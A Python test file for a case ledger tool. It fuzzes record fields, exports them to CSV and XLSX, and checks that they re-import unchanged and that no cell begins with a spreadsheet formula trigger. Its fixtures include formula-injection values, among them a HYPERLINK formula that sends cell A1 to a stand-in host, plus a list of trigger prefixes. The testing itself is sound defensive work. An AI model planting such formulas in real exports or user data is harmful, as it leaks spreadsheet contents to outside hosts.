"""What leaves in a file is safe to open and comes back as the same: every line of work, every field, whatever it holds."""

import csv
import io
import json
import os
import random
import zipfile
from contextlib import suppress
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from desk import TODAY, Run
from torture.fuzz import known
from xcli.domain.field import CaseNo, Document, Field, Money, Name, OfficeField, Parts, Whole, Words
from xcli.domain.lists import Lists
from xcli.domain.page import Line, Page
from xcli.domain.pages import lines
from xcli.intake.validate import Validator
from xcli.ledger.standing import StandsAlready

RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
# Fields that take what nothing here draws: codes that a bureau makes itself, a form of their own.
SELDOM = {"register": {"village"}, "audit": {"limits"}}
TRIED = 1000
STARTS = "=+-@＝＋－＠'"
LIVE = (
    *(f"{start}1+1" for start in STARTS), '=HYPERLINK("http://e/?"&A1,"点")', "'=1", "''=1", "'张三", "-", "--", "007", "00123456789012345678", "1e5", "2024-3-5", "3/4",
    "TRUE", "1,234.5", "50%", '甲"乙', "甲,乙", "甲\t乙", "甲\n乙", "甲;乙", "https://e/", "\\", "x" * 199, "𠮷野家", "㈱①", "，",
)  # fmt: skip
NAMES = ("=张有限公司", "@张三", "＝李", "O'Brien", "阿依古丽·买买提", "张三（曾用名：张四）", "007有限公司", "-王", "'=公司")
AMOUNTS = ("0", "0.01", "0.1", "99999999.99", "123456789012.34")
PEOPLE = ("0", "1", "65535", "999999")


def offered(page: type[Page], name: str, field: Field) -> tuple[object, ...]:
    """Return cells for a field: what it takes, and what a spreadsheet would take for something else."""
    fits = tuple(word.rpartition("=")[2] for word in known((page.name, "add"), name))
    if isinstance(field, Money):
        return (*AMOUNTS, *fits)
    if isinstance(field, Whole):
        return (*PEOPLE, *fits)
    if isinstance(field, CaseNo | Document):
        return ("=〔2024〕1号", "＝调〔2024〕2号", "E12345678", "00012345", *fits)
    if isinstance(field, Name):
        return (*NAMES, *fits)
    return (*LIVE, *fits) if isinstance(field, Words) else fits


def cells(page: type[Page], dice: random.Random, share: float) -> dict[str, Any]:
    """Return a record as somebody may enter it."""
    found: dict[str, Any] = {}
    for name, field in page.fields.items():
        if field.computed or not (field.required or dice.random() < share):
            continue
        if isinstance(field, Parts):
            found[name] = [cells(field.part, dice, share) for _ in range(dice.randint(1, 2))]
        else:
            found[name] = dice.choice(offered(page, name, field))
    return found


def records(page: type[Line], count: int) -> list[dict[str, Any]]:
    """Return records that the ledger takes: those that fill a field which none before them filled, then any."""
    dice, judge = random.Random(page.name), Validator(page, Lists(), date.fromisoformat(TODAY))
    found: list[dict[str, Any]] = []
    filled: set[str] = set()
    for tried in range(TRIED):
        content = taken(page, judge, dice)
        if content and (content.keys() - filled or (tried > TRIED // 2 and len(found) < count)):
            found.append(content)
            filled |= content.keys()
    return found


def taken(page: type[Line], judge: Validator, dice: random.Random) -> dict[str, Any] | None:
    """Return a record after what a rule refuses was drawn anew, or left out."""
    said = cells(page, dice, dice.choice((0.15, 0.4, 0.8)))
    for _ in range(8):
        checked = judge.read(said)
        if checked.good:
            return checked.content
        other = cells(page, dice, 0.5)
        for name in {found.name.partition(".")[0] for found in checked.faults if found.fault.weight == "error"}:
            said.pop(name, None)
            said |= {name: other[name]} if name in other else {}
    return None


@pytest.mark.parametrize("line", lines())
def test_what_leaves_comes_back_as_the_same(desk: Run, tmp_path: Path, line: str) -> None:
    from xcli.ledger.journal import Act
    from xcli.ledger.ledger import open_ledger

    page, content = lines()[line], []
    opened = open_ledger(os.environ["XCLI_DB"])
    for n, one in enumerate(records(page, 60)):
        number = {} if page.case_no.computed else {"case_no": f"{'＝' if n % 2 else ''}调〔2024〕{n}号"}
        with suppress(StandsAlready):
            with opened.writing(Act("王芳", "fixture")) as writer:
                writer.add(page, one | number)
            content.append(one)

    assert len(content) >= 30
    for name in ("out.csv", "out.xlsx"):
        assert desk(line, "list", "--to", str(tmp_path / name), "--reveal", "核对").code == 0
        no_cell_is_run(tmp_path / name)
        answer = desk("import", str(tmp_path / name), "--json")
        assert answer.code == 0, [one for one in json.loads(answer.out.splitlines()[-1])["faults"] if one["weight"] == "error"]
        said = json.loads(answer.out.splitlines()[-1])
        assert (said["inserted"], said["updated"], said["same"], said["rejected"]) == (0, 0, len(content), 0), said
    assert_every_field(page, content)


def no_cell_is_run(path: Path) -> None:
    """No cell of a file begins with what a spreadsheet would run; a number may have its sign."""
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as pack:
            sheets = [pack.read(name) for name in pack.namelist() if "worksheets/sheet" in name]
        assert not [sheet for sheet in sheets if b"<f" in sheet]
        return
    rows = csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""))
    assert not [cell for row in rows for cell in row if cell.startswith(RUN)]


def assert_every_field(page: type[Line], content: list[dict[str, Any]]) -> None:
    """Every field that can be entered was filled somewhere, and every one of text with something dangerous."""
    fields = {name: field for name, field in page.fields.items() if not (field.computed or isinstance(field, Parts | OfficeField | CaseNo))}
    assert {name for name in fields if not any(one.get(name) is not None for one in content)} <= SELDOM.get(page.name, set())
    texts = {name for name, field in fields.items() if type(field) is Words and name not in SELDOM.get(page.name, set())}
    assert {name for name in texts if not any(str(one.get(name) or "").startswith((*RUN, "'")) for one in content)} == set()
